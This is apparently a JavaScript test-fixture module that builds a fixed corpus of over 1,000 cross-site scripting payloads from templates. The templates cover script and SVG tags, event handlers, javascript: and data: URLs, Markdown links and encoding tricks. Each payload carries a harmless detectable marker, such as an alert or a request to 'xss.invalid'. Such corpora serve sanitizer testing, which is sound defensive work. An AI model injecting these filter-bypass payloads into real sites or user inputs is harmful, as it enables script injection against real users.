// The XSS corpus: at least 1,000 distinct hostile strings, built the same way on every run from attack
// templates (HTML, SVG, Markdown links and images, javascript: and data: URLs, attribute and element
// breaking, encodings and Unicode tricks), each with an action that would give itself away if it ever
// ran: a dialog, a console marker, a request to the marker host, or a global flag.

/** The host every payload's request goes to; a request there means a payload ran or loaded. */
export const MARKER_HOST = 'xss.invalid';
/** What a payload writes to the console when it runs. */
export const CONSOLE_MARKER = 'xssmarker';

const ACTIONS = [
  'alert(1)',
  `console.log('${CONSOLE_MARKER}')`,
  `fetch('//${MARKER_HOST}/f')`,
  'window.__xss=1',
  `location='//${MARKER_HOST}/l'`,
];

const TEMPLATES = [
  '<script>{A}</script>',
  '<ScRiPt>{A}</sCrIpT>',
  '<script >{A}</script >',
  '<scr<script>ipt>{A}</scr</script>ipt>',
  `<script src=//${MARKER_HOST}/s.js></script>`,
  '<img src=x onerror={A}>',
  '<img src=x onerror="{A}">',
  '<img/src=x/onerror={A}>',
  '<IMG SRC=x OnErRoR={A}>',
  '<img src=x onerror\u000b={A}>',
  `<img src="//${MARKER_HOST}/i.png">`,
  `<img srcset="//${MARKER_HOST}/s.png 1x">`,
  '<svg onload={A}>',
  '<svg><script>{A}</script></svg>',
  '<svg><animate onbegin={A} attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:{A}"><text x=0 y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror={A}></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror={A}>',
  '<body onload={A}>',
  '<iframe src="javascript:{A}"></iframe>',
  '<iframe srcdoc="<script>{A}</script>"></iframe>',
  '<object data="javascript:{A}"></object>',
  '<embed src="javascript:{A}">',
  '<a href="javascript:{A}">klik</a>',
  '<a href="JaVaScRiPt:{A}">klik</a>',
  '<a href="java&#115;cript:{A}">klik</a>',
  '<a href="jav&#x09;ascript:{A}">klik</a>',
  '<a href=" javascript:{A}">klik</a>',
  '<a href="data:text/html,<script>{A}</script>">klik</a>',
  '<details open ontoggle={A}>',
  '<input autofocus onfocus={A}>',
  '<select autofocus onfocus={A}></select>',
  '<textarea autofocus onfocus={A}></textarea>',
  '<video><source onerror={A}></video>',
  '<audio src=x onerror={A}>',
  '<marquee onstart={A}>x</marquee>',
  '<form action="javascript:{A}"><button>x</button></form>',
  '<button formaction="javascript:{A}">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:{A}">',
  '<base href="javascript:{A}//">',
  `<link rel=stylesheet href="//${MARKER_HOST}/c.css">`,
  '<div style="background:url(javascript:{A})">x</div>',
  '<style>@import "//' + MARKER_HOST + '/i.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror={A}>">',
  '"><script>{A}</script>',
  "'><img src=x onerror={A}>",
  '" onmouseover="{A}" x="',
  "' autofocus onfocus='{A}' x='",
  '" autofocus onfocus="{A}',
  '</textarea><script>{A}</script>',
  '</title><script>{A}</script>',
  '</style><script>{A}</script>',
  '</script><script>{A}</script>',
  '--><script>{A}</script>',
  ']]><script>{A}</script>',
  '<!--<img src="--><img src=x onerror={A}>">',
  '[klik](javascript:{A})',
  '[klik](JaVaScRiPt:{A})',
  '[klik](javascript&#58;{A})',
  '[klik](  javascript:{A}  )',
  '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[klik](vbscript:{A})',
  '![beeld](javascript:{A})',
  '![beeld](x" onerror="{A})',
  `![beeld](//${MARKER_HOST}/m.png)`,
  '<javascript:{A}>',
  '[klik][ref]\n\n[ref]: javascript:{A}',
  '[<img src=x onerror={A}>](https://example.org)',
  '`<script>{A}</script>`',
  '```html\n<script>{A}</script>\n```',
  '{{constructor.constructor("{A}")()}}',
  '${{A}}',
  '\u003cscript\u003e{A}\u003c/script\u003e',
  '%3Cscript%3E{A}%3C/script%3E',
  '&lt;script&gt;{A}&lt;/script&gt;',
  '&#60;script&#62;{A}&#60;/script&#62;',
  '\uff1cscript\uff1e{A}\uff1c/script\uff1e',
  '\u202e<script>{A}</script>',
  '<scr\u200bipt>{A}</script>',
  '<img src=x onerror=\u2028{A}>',
  '\ufeff<svg onload={A}>',
];

const WRAPPERS = ['{P}', '**{P}**', '> {P}'];

/** The corpus, in a fixed order. */
export function payloads() {
  const seen = new Set();
  const out = [];
  for (const wrapper of WRAPPERS) {
    for (const template of TEMPLATES) {
      for (const action of ACTIONS) {
        const payload = wrapper.replace('{P}', template.replaceAll('{A}', action));
        if (!seen.has(payload)) {
          seen.add(payload);
          out.push(payload);
        }
      }
    }
  }
  return out;
}
